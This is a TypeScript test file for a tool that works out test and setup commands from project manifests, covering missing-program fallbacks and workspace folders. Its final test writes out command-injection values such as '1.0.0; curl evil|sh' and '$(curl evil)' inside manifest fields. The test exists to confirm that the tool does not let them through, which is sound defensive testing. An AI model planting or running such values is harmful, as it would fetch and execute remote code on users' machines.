import assert from 'node:assert/strict';
import { test } from 'node:test';
import { detectCommands, programsOf } from './detect.ts';
import {
  CRATE,
  EVERY,
  type Files,
  FLIT,
  folderOf,
  MODULE,
  manifest,
  PYTEST,
  pinned,
  SETUPTOOLS,
  TESTED,
  UNTESTED,
  VENV,
} from './detecting/testing.ts';

// ───────────── what is missing ─────────────

const without =
  (...programs: readonly string[]) =>
  (program: string): boolean =>
    !programs.includes(program);

const instead: [string, Files, readonly string[], string | undefined, string | undefined][] = [
  [
    'pnpm by npm, in the version that is pinned',
    { 'package.json': pinned('pnpm@10.33.4'), 'pnpm-lock.yaml': '' },
    ['pnpm'],
    'pnpm test',
    'npm install --global --prefix "$HOME/.local" pnpm@10.33.4 && pnpm install --frozen-lockfile',
  ],
  [
    'a later yarn by npm',
    { 'package.json': pinned('yarn@4.2.2'), 'yarn.lock': '' },
    ['yarn'],
    'yarn test',
    'npm install --global --prefix "$HOME/.local" @yarnpkg/cli-dist@4.2.2 && yarn install --immutable',
  ],
  [
    'pip for uv, with the group of the tests',
    { 'uv.lock': '', 'pyproject.toml': FLIT },
    ['uv'],
    PYTEST,
    `${VENV} -e . freezegun 'pytest>=8'`,
  ],
  [
    'pip for tox, with what it would install for pytest',
    {
      'tox.ini':
        '[tox]\nenvlist = py\n[testenv]\ndeps = pytest\n  mock>=5\n  -r{toxinidir}/x.txt\ncommands =\n  py.test -v\n[testenv:lint]\ndeps = ruff\n',
      'pyproject.toml': SETUPTOOLS,
    },
    ['tox'],
    PYTEST,
    `${VENV} -e . pytest 'mock>=5'`,
  ],
  [
    'tox stays where its command is not pytest',
    { 'tox.ini': '[testenv]\ndeps = pytest\ncommands = nose2\n' },
    ['tox'],
    'tox run --skip-pkg-install',
    'tox run --notest',
  ],
  [
    'maven for a wrapper is no help without java',
    { 'pom.xml': '', mvnw: '' },
    ['java'],
    'sh mvnw -B -o test',
    'sh mvnw -B -q -DskipTests test-compile surefire:help dependency:go-offline',
  ],
];
for (const [what, files, gone, gate, setup] of instead) {
  test(`where a program is missing: ${what}`, () => {
    const found = detectCommands([folderOf(files)], without(...gone));
    assert.deepEqual([found.gate, found.setup], [gate, setup]);
  });
}

test('what is missing is named, and the next best that could run is offered', () => {
  const files = { 'go.mod': MODULE, Makefile: 'test:\n\tgo test ./...\n' };
  const found = detectCommands([folderOf(files)], without('go'));
  assert.deepEqual(
    [found.gate, found.missing, found.nextBest],
    ['go test ./...', ['go'], { gate: 'make test' }],
  );
  assert.deepEqual(programsOf([folderOf(files)]), ['go', 'make']);
  assert.deepEqual(detectCommands([folderOf({ 'go.mod': MODULE })], without('go')).nextBest, undefined);
});

// ───────────── folders ─────────────

const ROOT = {
  'package.json': manifest({ workspaces: ['packages/*'], scripts: { test: 'vitest' } }),
  'package-lock.json': '',
};

const nested: [string, Files, Files, string | undefined, string | undefined][] = [
  [
    'a member of a workspace: its tests, the root’s setup',
    { 'package.json': TESTED },
    ROOT,
    'cd packages/till && npm test',
    'npm ci',
  ],
  [
    'a project with a lockfile of its own',
    { 'package.json': TESTED, 'package-lock.json': '' },
    ROOT,
    'cd packages/till && npm test',
    'cd packages/till && npm ci',
  ],
  ['a folder without a manifest', { 'main.js': '' }, ROOT, 'npm test', 'npm ci'],
  ['a package whose test script is npm’s own', { 'package.json': UNTESTED }, ROOT, 'npm test', 'npm ci'],
  [
    'a crate of a workspace, locked by the root',
    { 'Cargo.toml': CRATE },
    { 'Cargo.toml': '[workspace]\n', 'Cargo.lock': '' },
    'cd packages/till && cargo test --locked --no-fail-fast',
    'cd packages/till && cargo fetch --locked',
  ],
  [
    'a module of a maven build',
    { 'pom.xml': '' },
    { 'pom.xml': '' },
    'mvn -B -o test',
    'mvn -B -q -DskipTests test-compile surefire:help dependency:go-offline',
  ],
];
for (const [what, here, root, gate, setup] of nested) {
  test(`the manifest of the folder one stands in goes before the root’s: ${what}`, () => {
    const found = detectCommands([folderOf(here, 'packages/till'), folderOf(root)], EVERY);
    assert.deepEqual([found.gate, found.setup], [gate, setup]);
  });
}

// ───────────── hostile manifests ─────────────

test('nothing of a manifest comes into a command line but plain versions, paths and requirements', () => {
  const evil = '1.0.0; curl evil|sh';
  const bad: Files[] = [
    { 'package.json': pinned(`pnpm@${evil}`), 'pnpm-lock.yaml': '' },
    {
      'package.json': TESTED,
      'yarn.lock': '',
      '.yarnrc.yml': 'yarnPath: .yarn/releases/x.cjs; curl evil|sh',
    },
    {
      'pyproject.toml': `[project]\nname = "a"\n[dependency-groups]\ntests = ["pytest", "x'; curl evil|sh #", "--index-url=evil"]\n`,
    },
    {
      'tox.ini': "[testenv]\ncommands = pytest\ndeps = x'; curl evil|sh #\n  --index-url=evil\n",
    },
    { 'go.work': 'use (\n ./a;curl evil|sh\n ./$(curl evil)\n ./ok\n)\n' },
  ];
  for (const files of bad) {
    const { gate, setup, why } = detectCommands([folderOf(files)], without('pnpm', 'yarn', 'tox'));
    assert.doesNotMatch([gate, setup, ...why].join('\n'), /evil|\$\(/);
  }
});
